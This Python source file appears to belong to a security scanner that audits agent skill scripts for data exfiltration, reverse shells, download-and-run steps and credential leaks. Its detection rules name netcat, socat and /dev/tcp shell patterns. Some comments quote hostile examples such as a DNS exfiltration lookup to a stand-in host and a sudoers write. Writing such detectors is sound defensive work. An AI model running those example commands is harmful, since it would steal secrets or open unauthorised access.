    if any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects):
        return True
    if not _is_downloader(cmd):
        return False
    if cmd.name in _HTTPIE and any(_HTTPIE_ITEM.match(a) or a.upper() in ("POST", "PUT", "PATCH") for a in cmd.args):
        return True  # http POST url key=value / key=@file / key@file: HTTPie sends its request items
    if "xargs" in cmd.wrappers:
        return True  # xargs puts what the stage before prints into the request's arguments: it is sent
    if _header_to_stranger(cmd, ctx):
        return True  # a provider's token, or a token the skill's service did not issue, goes to the host in a header
    return any(
        a in _SEND_FLAGS
        or a.startswith(tuple(f + "=" for f in _SEND_FLAGS if f.startswith("--")))
        or (a.startswith("-d") and len(a) > 2)
        for a in cmd.args
    ) or any("$" in a for a in cmd.args if _URL.search(a))


def _named_host(url: str | None) -> bool:
    """Whether an address names its host in the script itself (not ``$UPLOAD_URL`` the user configures)."""
    if not url:
        return False
    host = url.split("://", 1)[-1].split("/", 1)[0]
    return bool(host) and "$" not in host and "`" not in host


def _uploads(cmd: Cmd) -> bool:
    """Whether a sending command names a file whose content it sends (curl -T FILE, -F f=@FILE, --data-binary @FILE, scp FILE host:)."""
    args = cmd.args
    if cmd.name in ("scp", "rsync", "sftp") or _cloud_copy(cmd):
        return True
    return any(
        (a in ("-T", "--upload-file") and i + 1 < len(args))
        or "=@" in a
        or (a.startswith("@") and a != "@-")
        or (cmd.name in _HTTPIE and re.match(r"[\w.-]+@[^@\s]", a) is not None)  # HTTPie's field@file
        for i, a in enumerate(args)
    )


def _header_to_stranger(cmd: Cmd, ctx: Ctx | None = None) -> bool:
    """Whether a header or login value names a provider's token (``-H "X-Api-Key: $OPENAI_API_KEY"``) and the request
    goes to a host the script names that is not that provider's, or names a token of no provider (``-H "X-Auth:
    $DEPLOY_SECRET"``) going to a named host that is not the skill's service."""
    url = _url_of(cmd)
    if not _named_host(url):
        return False
    host = url_host_of(url or "")
    purpose_names = ctx is not None and ctx.purpose.names(host)
    return any(
        i > 0
        and cmd.args[i - 1] in _HEADER_FLAGS
        and any(
            (vendor_of(name) and not related_host(name, host) and not is_local_host(host))
            or (ctx is not None and header_leaves(name, url or "", purpose_names))
            for name in _VAR.findall(a)
        )
        for i, a in enumerate(cmd.args)
    )


_HEADER_FLAGS = ("-H", "--header", "-u", "--user", "--oauth2-bearer")


def _header_only(cmd: Cmd, name: str) -> bool:
    """Whether a named secret appears only in -H/--header or -u values (sent as credentials, not as data)."""
    places = [i for i, a in enumerate(cmd.args) if name in a]
    return bool(places) and all(i > 0 and cmd.args[i - 1] in _HEADER_FLAGS for i in places)


def _content_word(cmd: Cmd, word: str) -> bool:
    """Whether ``word`` of ``cmd`` names a file whose content the command reads out: any operand of a reader that
    prints or packs content, and only a data or upload operand of a downloader (``-d @f``, ``-F x=@f``, ``-T f``),
    never its output file."""
    if cmd.name in ("ls", "find", "cp", "tar", "zip"):
        return False
    if cmd.name in _READERS:
        return True
    at = cmd.args.index(word) if word in cmd.args else -1
    before = cmd.args[at - 1] if at > 0 else ""
    return word.startswith("@") or "=@" in word or before in ("-T", "--upload-file")


def _owned_send(ctx: Ctx, cmd: Cmd, name: str | None, url: str | None) -> bool:
    """Whether sending the secret called ``name`` to ``url`` is its own use, not a leak."""
    host = url_host_of(url) if url and "://" in url else (url or "")
    if name is not None and name.startswith(PROMPT_NAME):
        # a password typed for the user's own login (a host the user gives, or the service the prompt names)
        return prompt_owner(name.removeprefix(PROMPT_NAME), url or "", ctx.purpose.names(host))
    if name is not None and name.startswith(PRIVATE):
        # a private file's content leaves only for a host the script names that is neither the user's machine nor
        # the service of the tool whose file it is
        owner = name.removeprefix(PRIVATE)
        if url is None and cmd.name in _RESOLVERS:  # dig "$chunk.x.example": the name looked up carries the data
            spliced = [a for a in cmd.args if "$" in a and re.search(r"\.[a-z0-9-]+\.[a-z]{2,}\.?$", a, re.IGNORECASE)]
            host = spliced[0].rsplit("}", 1)[-1].split(".", 1)[-1] if spliced else ""
            return not host or is_local_host(host) or (bool(owner) and related_host(owner, host))
        return not _named_host(url) or is_local_host(host) or (bool(owner) and related_host(owner, host))
    if name is not None and name.startswith(ITEM):
        # the keychain item the tool saved for this site (service linear-skill to api.linear.app)
        return bool(host) and item_for_site(name.removeprefix(ITEM), host) and endpoint_kind(url or "") is None
    # a provider's token sent to that provider's API (GITHUB_TOKEN to api.github.com) is its use, not a leak; posted
    # in a gist or an issue on that provider, it is published
    if name is None or _published(cmd) is not None:
        return False
    if host and related_host(name, host) and endpoint_kind(url or "") is None:
        return True
    # a token in a header is its use unless it names a provider and goes to another host the script names
    return _header_only(cmd, name) and (
        not _named_host(url)
        or is_local_host(host)  # the user's own machine, as the other languages' provider check has it
        or (vendor_of(name) is None and not header_leaves(name, url or "", ctx.purpose.names(host)))
    )


def _report_flow(ctx: Ctx, cmd: Cmd, source: tuple[str, int, str | None]) -> None:
    what, line, name = source
    first = _url_of(cmd)
    # an address picked at run time (an array item by $RANDOM, a loop's items): the send goes to each one it may be
    picked = [a for a in cmd.alts if _URL.search(a) and a != first] if first and _URL.search(first) else []
    leaking = [u for u in [first, *picked] if not _owned_send(ctx, cmd, name, u)]
    if not leaking:
        return
    url = leaking[0]
    for other in picked:
        if other != url:
            ctx.cap("sends", url_host_of(other) or "?", cmd.start, cmd.end, f"{cmd.name}, a host picked at run time")
    where = safe_line(url, limit=100) if url else f"the network ({cmd.name})"
    published = _published(cmd)
    if published is not None:
        where = (
            f"{published[1]} on {url_host_of(published[0])} ({cmd.name} {' '.join(cmd.args[:2])}), where others read it"
        )
    ctx.add(
        "skillscope/exfiltration/data-flow",
        f"{what} (line {line}) and sends it to {where} (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
    )


def _reverse_shell(ctx: Ctx, cmd: Cmd, socket_open: bool = False) -> bool:
    tcp = any(t.startswith(("/dev/tcp/", "/dev/udp/")) for _, t in cmd.redirects) or any(
        "/dev/tcp/" in a for a in cmd.args
    )
    # `exec 3<>/dev/tcp/host/port` opens a socket on a descriptor; a shell reading or writing that descriptor serves it
    tcp = tcp or (
        socket_open and any(op in ("<&", ">&", "<&-") and t.isdigit() and int(t) >= 3 for op, t in cmd.redirects)
    )
    if (
        (cmd.name in INTERPRETERS and tcp)
        or (cmd.name in ("nc", "ncat", "netcat") and any(a in ("-e", "-c") or a.startswith("-e") for a in cmd.args))
        or (cmd.name == "socat" and any(a.lower().startswith(("exec:", "system:")) for a in cmd.args))
    ):
        ctx.add(
            "skillscope/exfiltration/reverse-shell",
            f"connects a shell to a remote host ({safe_line(' '.join(cmd.words), limit=100)})",
            cmd.start,
            cmd.end,
        )
        return True
    return False


_INSTALL_HEADING = re.compile(
    r"^#{1,6}[ \t]+[^\n]*\b(?:install\w*|setup|set\s+up|prerequisites?|requirements?|getting\s+started|quick\s*start|dependencies)\b",
    re.IGNORECASE | re.MULTILINE,
)


@lru_cache(maxsize=4)
def _visible(text: str) -> str:
    """The text without its HTML comments: a host named only where the user never looks names no product."""
    return re.sub(r"<!--.*?(?:-->|\Z)", " ", text, flags=re.DOTALL) if "<!--" in text else text


def _direnv_fetch(ctx: Ctx, cmd: Cmd) -> None:
    """direnv's ``source_url URL HASH`` downloads a script and runs it in the user's shell each time the folder is
    entered. The hash only pins what that host served when its author took it: the code is still the host's. A
    product's own script (its host or code-host project named, as for an installer) is a note; an address built from
    variables or a host nobody names is the error every download run is."""
    url = cmd.args[0]
    ctx.cap("installs", safe_line(url, limit=80), cmd.start, cmd.end, "direnv source_url")
    spelt = re.search(r"""source_url\s+["']?([^"'\s]*)""", ctx.text[cmd.start : cmd.end])
    built = "\x00" in url or "$" in url or (spelt is not None and "$" in spelt.group(1))  # joined from variables
    severity = None if built else installer_severity(ctx, url)
    ctx.add(
        "skillscope/obfuscation/download-exec",
        f"downloads {safe_line(url.replace(chr(0), '…'), limit=100)} and runs it in the shell each time direnv loads "
        f"the folder (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
        severity,
    )


def installer_severity(ctx: Ctx, url: str | None) -> Severity | None:
    """A product's own installer (its host or code-host project named in the file's words) over https is a note,
    in a script or the docs; another documented installer from an ordinary https host is a warning; a drop host,
    another script's download or an order in SKILL.md stays an error.

    In SKILL.md the agent follows what it reads, so only an installation section (by its heading) counts as documentation.
    """
    if not (url and url.startswith("https://") and endpoint_kind(url) is None):
        return None
    if lookalike_site(url_host_of(url)) is not None:
        return None  # a host dressed as a known site (raw.githubusercontent.com.<other>) is no vendor's installer
    # The skill's stated purpose relieves a script's installer; a page's words are orders to the agent (below).
    # the skill's stated purpose relieves a script's installer, and a build file's (a Dockerfile's RUN line); a page's
    # words are orders to the agent or advice to people, judged below
    from skillscope.audit.behavior.regions import is_prose_file

    built = not ctx.documented or not is_prose_file(ctx.path)
    if (built and ctx.purpose.names(url)) or vendor_host(_visible(ctx.file_text), url):
        # The product's own installer (sh.rustup.rs in a script that then runs rustup, get.scoop.sh beside scoop
        # install): a capability the user asked for, in a script as much as in the docs.
        return "note"
    if not ctx.documented:
        return None
    if ctx.path.rsplit("/", 1)[-1].upper() == "SKILL.MD":
        headings = list(re.finditer(r"^#{1,6}[ \t]+[^\n]*", ctx.file_text[: ctx.base], re.MULTILINE))
        if not headings or not _INSTALL_HEADING.match(headings[-1].group(0)):
            return None
    return "warning"


def _written(cmd: Cmd) -> str | None:
    args = cmd.args
    for index, arg in enumerate(args[:-1]):
        # -o FILE, --output FILE, and bundled short flags ending in o (curl -fsSLo FILE)
        if arg in ("--output", "--output-document", "-out") or (
            arg[:1] == "-" and arg[1:2] != "-" and arg[-1:] in ("o", "O") and len(arg) <= 8
        ):
            if args[index + 1] != "-":
                return args[index + 1]
    if cmd.name == "curl" and "-O" in args:
        url = _url_of(cmd)
        return url.rstrip("/").rsplit("/", 1)[-1] if url else None
    for op, target in cmd.redirects:
        if op in (">", ">>", ">|"):
            return target
    return None


def _runs_file(cmd: Cmd, name: str) -> bool:
    base = name.rsplit("/", 1)[-1]
    if not base:
        return False
    if cmd.words and cmd.words[0].rsplit("/", 1)[-1] == base and ("/" in cmd.words[0] or cmd.words[0] == name):
        return True
    if cmd.name not in INTERPRETERS:
        return False
    for arg in cmd.args:
        if arg == "-m":
            return False  # python -m json.tool status.json runs the module; the file after it is its data
        if arg.rsplit("/", 1)[-1] == base:
            return True
    return False


_INLINE_FLAGS = {
    "python": ("-c",),
    "python3": ("-c",),
    "python2": ("-c",),
    "node": ("-e", "--eval", "-p", "--print"),
    "deno": ("eval",),
    "bun": ("-e", "--eval"),
    "ruby": ("-e",),
    "perl": ("-e", "-E"),
    "php": ("-r",),
}


def _language(name: str) -> str | None:
    if name.startswith("python"):
        return "python"
    if name in ("node", "deno", "bun"):
        return "javascript"
    if name in ("ruby", "perl", "php"):
        return name
    return None


def _inner_ctx(ctx: Ctx, cmd: Cmd, code: str) -> Ctx:
    """A region for code a command carries, whose line numbers count from the command's own line (so the
    messages of what is found in ``python3 -c "..."`` name the file's lines)."""
    line = ctx.line(cmd.start)
    return Ctx(
        code,
        line - 1,
        "\n" * (line - 1) + code,
        ctx.path,
        documented=ctx.documented,
        skill_files=ctx.skill_files,
    )


def _run_language(inner: Ctx, language: str) -> None:
    if language == "python":
        from skillscope.audit.behavior.pymodules import Modules, scan_python

        scan_python(inner, Modules())
    elif language == "javascript":
        from skillscope.audit.behavior.javascript import scan_javascript

        scan_javascript(inner)
    elif language == "ruby":
        from skillscope.audit.behavior.ruby import scan_ruby

        scan_ruby(inner)
    elif language == "perl":
        from skillscope.audit.behavior.perl import scan_perl

        scan_perl(inner)
    else:  # PHP has no grammar here: credentials to the network and fetched code run, by tokens
        from skillscope.audit.behavior.tokenflow import scan_tokens

        scan_tokens(inner)


def _inline_code(ctx: Ctx, cmd: Cmd) -> None:
    """Analyse the program an interpreter is handed on its command line (``python3 -c "..."``, ``ruby -e``,
    ``perl -e``), with the shell's variables resolved, in its own language."""
    if cmd.name == "osascript":
        _applescript(ctx, cmd)
        return
    if cmd.name in ("awk", "gawk", "mawk", "nawk"):
        _awk(ctx, cmd)
        return
    flags = _INLINE_FLAGS.get(cmd.name)
    args = cmd.args
    index = next((i for i, a in enumerate(args) if flags and a in flags), None)
    language = _language(cmd.name)
    if index is None or index + 1 >= len(args) or language is None:
        return
    code = args[index + 1]
    inner = _inner_ctx(ctx, cmd, code)
    _run_language(inner, language)
    _lift(ctx, inner, cmd, f"{cmd.name} {args[index]}")
    _argv_write(ctx, cmd, code, args[index + 2 :], f"{cmd.name} {args[index]}")


_WRITE_CALL = re.compile(
    r"\b(?:file_put_contents|fwrite|fputs|writeFileSync|appendFileSync|write_text|writelines)\b|\bFile\.(?:write|open)\b|"
    r"\bIO\.write\b|\bopen\s*\([^)]*['\"][wa]\+?b?['\"]|\bopen\s*\(\s*(?:my\s+)?\$\w+\s*,\s*['\"]>>?['\"]|\.write\("
)
_ARGV_READ = re.compile(r"\$argv\b|\bsys\.argv\b|\bARGV\b|\$ARGV\b|\bprocess\.argv\b|\$_SERVER\[")


def _assigned_text(text: str, word: str) -> str | None:
    """The right side of ``name=...`` as written, for a word the parser left as ``$name``; None for any other word."""
    var = re.fullmatch(r"\$\{?([A-Za-z_]\w*)\}?", word)
    if var is None:
        return None
    found = re.search(rf"(?m)^[ \t]*(?:(?:local|export|readonly)[ \t]+)?{var.group(1)}=([^\n]+)$", text)
    return found.group(1).strip() if found else None


def _argv_write(ctx: Ctx, cmd: Cmd, code: str, rest: list[str], where: str) -> None:
    """An inline program that writes a file its own arguments name (``sudo php -r 'file_put_contents($argv[1],
    $argv[2]);' /etc/sudoers.d/x "$rule"``): what its code cannot show, the arguments do. Read as the shell write
    it amounts to (the other arguments into that file), so the shell's rules judge the place and the text."""
    if not rest or not _WRITE_CALL.search(code) or not _ARGV_READ.search(code):
        return
    # an argument the parser left as "$f" (its value holds a $( ) it cannot know) is read from its assignment
    bound = {a: _assigned_text(ctx.text, a) for a in rest}
    places = [a for a in rest if (bound[a] or a).lstrip("\"'").startswith(("/", "~", "$HOME", "${HOME"))]
    text = [a for a in rest if a not in places]
    if not places:
        return

    def word(a: str) -> str:  # the value as the script spells it ("/etc/sudoers.d/x-$(id -un)"), else the argument
        return bound[a] or shlex.quote(a)

    said = " ".join(word(a) for a in text) or "''"
    inner = _inner_ctx(ctx, cmd, "\n".join(f"printf '%s\\n' {said} | tee -a {word(p)}" for p in places[:4]))
    _scan(inner, 1)
    _lift(ctx, inner, cmd, f"{where}, writing its arguments", by_line=False)


_AWK_TOKEN = re.compile(r'"((?:[^"\\]|\\.)*)"|ENVIRON\[\s*"(\w+)"\s*\]|([A-Za-z_]\w*)|(\S)')
_AWK_RUN = re.compile(r'\bsystem\s*\(|\|\s*"(?:ba|z|da)?sh\b[^"]*"')


def _awk_value(expr: str, names: dict[str, str]) -> str:
    """An awk string expression's text: literals and variables side by side are joined; an unknown name is ``?``."""
    out: list[str] = []
    for literal, env, name, other in _AWK_TOKEN.findall(expr):
        if literal or (not env and not name and not other):
            out.append(re.sub(r"\\(.)", r"\1", literal))
        elif env:
            out.append(f"${env}")
        elif name:
            out.append(names.get(name, "?"))
    return "".join(out)


def _awk(ctx: Ctx, cmd: Cmd) -> None:
    """An awk program that builds a command line and hands it to a shell (``system(c)``, ``print c | "sh"``): the
    command, its pieces joined from the program's strings, ``-v`` values and ``ENVIRON``, is read as shell."""
    args = cmd.args
    names: dict[str, str] = {}
    program = ""
    i = 0
    while i < len(args):
        if args[i] == "-v" and i + 1 < len(args) and "=" in args[i + 1]:
            key, value = args[i + 1].split("=", 1)
            names[key] = value
            i += 2
            continue
        if args[i].startswith("-"):
            i += 2 if args[i] in ("-f", "-F") else 1
            continue
        program = args[i]
        break
    if not program or not _AWK_RUN.search(program):
        return
    commands: list[str] = []
    for statement in re.split(r"[;\n{}]", program):
        assigned = re.match(r"\s*([A-Za-z_]\w*)\s*=(?!=)\s*(.+)$", statement)
        if assigned and "system" not in statement:
            names[assigned.group(1)] = _awk_value(assigned.group(2), names)
            continue
        run = re.search(r"\bsystem\s*\((.*)\)\s*$", statement)
        piped = re.match(r"\s*print(?:f)?\s+(.+?)\|\s*\"(?:ba|z|da)?sh\b", statement)
        if run or piped:
            commands.append(_awk_value((run or piped).group(1), names))  # type: ignore[union-attr]
    for command in commands[:4]:
        command = re.sub(r'^sh -c "(.*)"$', r"\1", command.strip())  # system("sh -c \"" c "\""): c itself
        inner = _inner_ctx(ctx, cmd, command)
        _scan(inner, 1)
        _lift(ctx, inner, cmd, "awk system()", by_line=False)


_APPLESCRIPT_STRING = re.compile(r'"((?:[^"\\]|\\.)*)"')


def _applescript(ctx: Ctx, cmd: Cmd) -> None:
    """``osascript -e 'do shell script "..."'``: the shell command AppleScript runs, read as shell."""
    args = cmd.args
    for i, flag in enumerate(args[:-1]):
        if flag != "-e":
            continue
        source = args[i + 1]
        at = source.lower().find("do shell script")
        if at < 0:
            continue
        found = _APPLESCRIPT_STRING.search(source, at)
        if found is None:
            continue
        code = re.sub(r"\\(.)", r"\1", found.group(1))
        inner = _inner_ctx(ctx, cmd, code)
        _scan(inner, 1)
        _lift(ctx, inner, cmd, "osascript do shell script", by_line=False)


_EXTENSIONS = {
    ".sh": "shell",
    ".bash": "shell",
    ".zsh": "shell",
    ".py": "python",
    ".js": "javascript",
    ".mjs": "javascript",
    ".cjs": "javascript",
    ".rb": "ruby",
    ".pl": "perl",
    ".pm": "perl",
    ".php": "php",
}
_CALLEE_HARM = frozenset(
    {
        "skillscope/exfiltration/data-flow",
        "skillscope/exfiltration/reverse-shell",
        "skillscope/obfuscation/download-exec",
        "skillscope/obfuscation/decode-exec",
        "skillscope/persistence/startup",
        "skillscope/permissions/destructive",
    }
)


def _callee(ctx: Ctx, cmd: Cmd) -> tuple[str, str, str, list[str]] | None:
    """(path, text, language, arguments) of a script of the skill a command runs: ``bash scripts/b.sh ARG``,
    ``"$here/b.sh"``, ``python3 tools/x.py``, ``source lib.sh``."""
    if not ctx.skill_files or not cmd.words:
        return None
    words = cmd.words
    if cmd.name in INTERPRETERS:
        rest = list(words[1:])
        while rest and rest[0].startswith("-"):
            if rest[0] in _STDIN_CODE or rest[0] in _INLINE_FLAGS.get(cmd.name, ()) or rest[0] == "-m":
                return None
            rest = rest[1:]
        if not rest:
            return None
        word, args = rest[0], rest[1:]
    else:
        word, args = words[0], words[1:]
        if "/" not in word:
            return None
    found = shipped(ctx.skill_files, ctx.path, word)
    if len(found) != 1 or found[0][0] == ctx.path:
        return None
    path, text = found[0]
    suffix = "." + path.rsplit(".", 1)[-1] if "." in path.rsplit("/", 1)[-1] else ""
    language = _EXTENSIONS.get(suffix)
    first = text.split("\n", 1)[0]
    if language is None and first.startswith("#!"):
        language = next(
            (
                lang
                for key, lang in (("python", "python"), ("node", "javascript"), ("ruby", "ruby"), ("perl", "perl"))
                if key in first
            ),
            "shell",
        )
    if cmd.name in SHELLS or cmd.name in ("source", "."):
        language = "shell"
    elif _language(cmd.name):
        language = _language(cmd.name)
    return (path, text, language, args) if language else None


def analyse_script(path: str, text: str, skill_files: Mapping[str, str]) -> Ctx | None:
    """A shipped script analysed on its own (by its extension, else its #! line), or None for a file that is no
    script: what it prints (``printed``, ``stdout_secrets``) is what a page that runs it gets back."""
    suffix = "." + path.rsplit(".", 1)[-1] if "." in path.rsplit("/", 1)[-1] else ""
    first = text.split("\n", 1)[0]
    language = _EXTENSIONS.get(suffix)
    if language is None and first.startswith("#!"):
        language = next(
            (lang for key, lang in (("python", "python"), ("node", "javascript"), ("ruby", "ruby")) if key in first),
            "shell",
        )
    if language is None:
        return None
    inner = Ctx(text, 0, text, path, skill_files=skill_files)
    if language == "shell":
        _scan(inner, 1)
    else:
        _run_language(inner, language)
    return inner


_FOLLOWING: set[str] = set()
"""The shipped scripts whose output is being worked out right now (a script that runs itself is read once)."""


def _callee_prints_secret(ctx: Ctx, cmd: Cmd) -> str | None:
    """What a script of the skill this command runs prints of a secret it reads (``ruby read.rb`` whose ``puts``
    carries ~/.netrc), as "reads X (read.rb line N), which read.rb prints (line M)"; None when its output is clean."""
    callee = _callee(ctx, cmd)
    if callee is None or callee[0] in _FOLLOWING or len(_FOLLOWING) > 2:
        return None
    path, text, language, args = callee
    _FOLLOWING.add(path)
    try:
        inner = Ctx(text, 0, text, path, skill_files=ctx.skill_files)
        if language == "shell":
            _scan(inner, 1, args or None)
        else:
            _run_language(inner, language)
    finally:
        _FOLLOWING.discard(path)
    if not inner.stdout_secrets:
        return None
    start, _, what = inner.stdout_secrets[0]
    return f"runs {path}, which {_in(path, what)} and prints it ({path} line {inner.line(start)}), takes its output"


def _runs_shipped(ctx: Ctx, cmd: Cmd, depth: int) -> None:
    """A command that runs another script of the skill carries what that script does: what the script does with
    the arguments given here (a key path handed to an uploader) is a finding on this line; what it does on its
    own is reported in its file, and named here as a note."""
    if depth > 2:
        return
    callee = _callee(ctx, cmd)
    if callee is None:
        return
    path, text, language, args = callee
    ctx.cap("executes", path, cmd.start, cmd.end, "a script of the skill")
    # the script is judged under the skill's stated purpose here as it is in its own file
    alone = Ctx(text, 0, text, path, skill_files=ctx.skill_files, purpose=ctx.purpose)
    if language == "shell":
        _scan(alone, depth + 1)
    else:
        _run_language(alone, language)
    known = {(h.check, h.message) for h in alone.hits}
    shown = safe_line(" ".join([path, *args]), limit=100)
    if language == "shell" and args:
        given = Ctx(text, 0, text, path, skill_files=ctx.skill_files, purpose=ctx.purpose)
        _scan(given, depth + 1, args)
        for raw in given.hits:
            if raw.check in _CALLEE_HARM and raw.severity in (None, "error") and (raw.check, raw.message) not in known:
                ctx.add(
                    raw.check,
                    f"runs {shown} (line {ctx.line(cmd.start)}), which {_in(path, raw.message)}",
                    cmd.start,
                    cmd.end,
                )
                return
    if ctx.documented:
        return  # a page naming the script adds nothing to the finding in the script itself
    for raw in alone.hits:
        if raw.check in _CALLEE_HARM and raw.severity in (None, "error"):
            ctx.add(raw.check, f"runs {shown}, which {_in(path, raw.message)}", cmd.start, cmd.end, "note")
            return


def _in(path: str, message: str) -> str:
    """A finding's message with its line numbers named as the lines of ``path``."""
    return re.sub(r"\(line (\d+)\)", lambda m: f"({path} line {m.group(1)})", message)


def _lift(ctx: Ctx, inner: Ctx, cmd: Cmd, where: str, *, by_line: bool = True) -> None:
    """Bring what an analyser found in code a command carries (python -c, a here-document) to the command: each
    hit on the line of the code it names when the command spans several lines, else on the command."""
    ctx.network = ctx.network or inner.network
    seen: set[tuple[str, str]] = set()
    for raw in inner.hits:
        if (raw.check, raw.message) in seen:
            continue
        seen.add((raw.check, raw.message))
        start, end = _inner_place(ctx, inner, cmd, raw.start) if by_line else (cmd.start, cmd.end)
        ctx.add(raw.check, f"{raw.message} (in {where})", start, end, raw.severity)
    for cap in inner.caps:
        ctx.cap(cap.kind, cap.target, cmd.start, cmd.end, f"{cap.detail}, in {where}".strip(", "))
    for sent, _, kind in inner.sends:  # a send keeps its own line, as its hits do (a claim it breaks is judged there)
        ctx.sends.append((*(_inner_place(ctx, inner, cmd, sent) if by_line else (cmd.start, cmd.end)), kind))


def _inner_place(ctx: Ctx, inner: Ctx, cmd: Cmd, offset: int) -> tuple[int, int]:
    """The span of ``ctx.text`` for an offset of code carried by ``cmd``: the same line of the command when the
    command is written over as many lines, else the whole command."""
    lines = inner.text.count("\n", 0, offset)
    if lines == 0:
        return cmd.start, cmd.end
    written = ctx.text[cmd.start : cmd.end].split("\n")
    if lines >= len(written):
        return cmd.start, cmd.end
    start = cmd.start + sum(len(piece) + 1 for piece in written[:lines])
    return start, start + max(len(written[lines]), 1)


def _stdin_code(ctx: Ctx, cmd: Cmd) -> None:
    """A program fed to python, node, ruby or perl on standard input (a here-document, a here-string)."""
    if cmd.stdin is None or not cmd.stdin.strip() or cmd.name in SHELLS:
        return
    language = _language(cmd.name)
    if language is None:
        return
    if any(a in _STDIN_CODE or a in _INLINE_FLAGS.get(cmd.name, ()) for a in cmd.args):
        return  # the program is on the command line; the here-document is its data
    inner = Ctx(cmd.stdin, 0, cmd.stdin, ctx.path, documented=ctx.documented, skill_files=ctx.skill_files)
    _run_language(inner, language)
    _lift(ctx, inner, cmd, f"the program fed to {cmd.name}", by_line=False)


# --- capabilities -------------------------------------------------------------------------------------

_QUIET = frozenset(
    {
        "echo",
        "printf",
        "cd",
        "pwd",
        "test",
        "[",
        "[[",
        "true",
        "false",
        "set",
        "unset",
        "export",
        "local",
        "declare",
        "readonly",
        "read",
        "shift",
        "exit",
        "return",
        ":",
        "trap",
        "wait",
        "sleep",
        "break",
        "continue",
        "source",
        ".",
        "eval",
        "exec",
        "alias",
        "typeset",
        "let",
        "shopt",
        "getopts",
        "type",
        "hash",
        "command",
        "builtin",
        "mapfile",
        "readarray",
        "printenv",
        "env",
        "date",
        "basename",
        "dirname",
        "mkdir",
        "touch",
        "cat",
        "head",
        "tail",
        "grep",
        "sed",
        "awk",
        "cut",
        "sort",
        "uniq",
        "wc",
        "tr",
        "ls",
        "which",
        "jq",
        "tee",
        "xargs",
        "find",
        "cp",
        "mv",
        "ln",
        "chmod",
        "chown",
        "rm",
        "realpath",
        "readlink",
        "mktemp",
        "seq",
        "expr",
        "stat",
        "diff",
        "cmp",
        "comm",
        "paste",
        "fold",
        "fmt",
        "column",
        "rev",
        "nl",
        "od",
        "yes",
    }
)
"""Shell built-ins and text tools: running them is not worth a capability of its own."""


def _host_of(word: str) -> str:
    if word.startswith(("/dev/tcp/", "/dev/udp/")):
        return word.split("/")[3] if len(word.split("/")) > 3 else "?"
    if "://" in word:
        return url_host_of(word) or "?"
    if re.match(r"^[\w.-]+@[\w.-]+:", word) or re.match(r"^[\w.-]+:", word):
        return word.split(":", 1)[0].rsplit("@", 1)[-1].lower()
    host = word.split("/", 1)[0].split(":", 1)[0].rsplit("@", 1)[-1]
    return host.lower() if "$" not in host else "?"


def _send_host(cmd: Cmd) -> str:
    if cmd.name in _RESOLVERS:
        name = next((a for a in cmd.args if not a.startswith(("-", "@"))), "?")
        known = re.split(r"\$\(|\$\{?\w+\}?|`[^`]*`|\)", name)[-1].strip(".")
        return known.lower() or "?"
    if cmd.name in ("scp", "rsync", "sftp"):
        dest = next((a for a in reversed(cmd.args) if re.match(r"^[\w.@${}-]+:", a)), None)
        return _host_of(dest) if dest else "?"
    if cmd.name == "git":
        url = next((a for a in cmd.args if "://" in a or re.match(r"^[\w.-]+@[\w.-]+:", a)), None)
        return _host_of(url) if url else "?"
    cloud = _cloud_copy(cmd)
    if cloud:  # the bucket or remote, or ? when the user names it ($bucket)
        bucket = cloud.split("://", 1)[-1].split("/", 1)[0].split(":", 1)[0]
        return bucket.lower() if bucket and "$" not in bucket and "`" not in bucket else "?"
    url = _url_of(cmd)
    return _host_of(url) if url else "?"


_FISH_WORDS = frozenset(
    "end not and or begin else switch case set string count contains status test disown function functions "
    "builtin command return break continue argparse set_color fish_add_path abbr alias emit source variables".split()
)
"""fish's own keywords and builtins, which the bash grammar reads as commands in a .fish file: none runs a program."""


def _record(ctx: Ctx, cmd: Cmd, sends: bool) -> None:
    """Record what the command does as capabilities, each with its target resolved as far as constants allow."""
    name = cmd.name
    if not name:
        return
    # A script of the skill run by its path is recorded once, by that path (``_runs_shipped``), not also by its name.
    shipped = name not in SHELLS and not _language(name) and _callee(ctx, cmd) is not None
    # A bare file name (`See `.gitignore``, `config.json`) names a file; it runs nothing.
    mention = not cmd.args and (
        name.startswith(".") or any(p == name or p.endswith("/" + name) for p in ctx.skill_files)
    )
    fish = ctx.path.endswith(".fish") and name.strip() in _FISH_WORDS
    if name not in _QUIET and not name.startswith(("$", "`")) and not shipped and not mention and not fish:
        ctx.cap("executes", name, cmd.start, cmd.end, cmd.via)
    if name == "git" and _git_verb(cmd) == "push":  # git -C repo push: past git's own options
        ctx.cap("sends", _send_host(cmd) if _send_host(cmd) != "?" else "git remote", cmd.start, cmd.end, "git push")
    if sends:
        ctx.cap("sends", _send_host(cmd), cmd.start, cmd.end, name)
    elif _is_downloader(cmd) and _url_of(cmd):
        ctx.cap("sends", _send_host(cmd), cmd.start, cmd.end, f"{name} download")
    for word in [*_read_words(cmd), *(t for op, t in cmd.redirects if op == "<")] if name != "set" else []:
        # (`set -- "$HOME"/*` names the script's arguments; whatever takes them is what reads or deletes them)
        if "$(" in word or "`" in word or "(" in word:
            continue  # a substitution's own commands record what they read; a word with code in it is a program
        what = (
            credential_what(word)
            or credential_glob(word.rsplit("@", 1)[-1])
            or (credential_folder(word) if name in _READERS or _cloud_copy(cmd) else None)
        )
        if what:
            ctx.cap("reads", home_path(_path_word(word, what)), cmd.start, cmd.end, name)
        for var in _VAR.findall(word):
            if SECRET_NAME.search(var) and name != "export":
                ctx.cap("reads", f"${var}", cmd.start, cmd.end, name)
    joined = " ".join(cmd.words)
    store = STORE_COMMAND.search(joined) or (TOKEN_COMMAND.search(joined) if name in _TOKEN_TOOLS else None)
    if store:
        item = _item_name(cmd)
        detail = f"credential command, item {safe_line(item, limit=60)}" if item else "credential command"
        ctx.cap("reads", safe_line(store.group(0), limit=60), cmd.start, cmd.end, detail)
    if name in ("env", "printenv") and not [a for a in cmd.args if not a.startswith("-")]:
        ctx.cap("reads", "environment", cmd.start, cmd.end, name)
    for target in _write_targets(cmd):
        ctx.cap("writes", home_path(target), cmd.start, cmd.end, name)
    if name in ("echo", "printf") and cmd.args and not any(op in (">", ">>", ">|", "&>") for op, _ in cmd.redirects):
        text = (
            " ".join(a for a in cmd.args if a not in ("-n", "-e", "-E"))
            if name == "echo"
            else _format(cmd.args[0], cmd.args[1:])  # the format filled with its values, as printf prints it
        )
        if text.strip():
            ctx.say(text, cmd.start, cmd.end)
